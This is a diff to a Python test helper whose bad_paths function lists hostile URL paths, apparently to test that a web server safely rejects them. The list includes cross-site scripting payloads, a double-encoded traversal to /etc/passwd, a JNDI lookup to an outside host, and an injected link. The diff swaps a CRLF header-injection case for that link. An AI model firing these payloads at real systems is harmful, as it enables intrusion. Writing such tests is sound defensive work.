@@ -138,7 +138,7 @@ def bad_paths(path: str) -> list[str]:
         f"{base}/{quote('<svg onload=window.__pwn=1>', safe='')}",
         f"{base}/{quote(chr(34) + ' onmouseover=window.__pwn=1 x=' + chr(34), safe='')}",
         f"{base}/%252e%252e%252fetc%252fpasswd",
-        f"{base}/x%0d%0aSet-Cookie:%20cam=1",
+        f"{base}/{quote('<a href=//ev.io class=cam-pwn>x</a>', safe='')}",
         f"{base}/{'a' * 2000}",
         f"{base}/{quote('javascript:window.__pwn=1', safe='')}",
         f"{base}/{quote('${jndi:ldap://ev.io/a}', safe='')}",
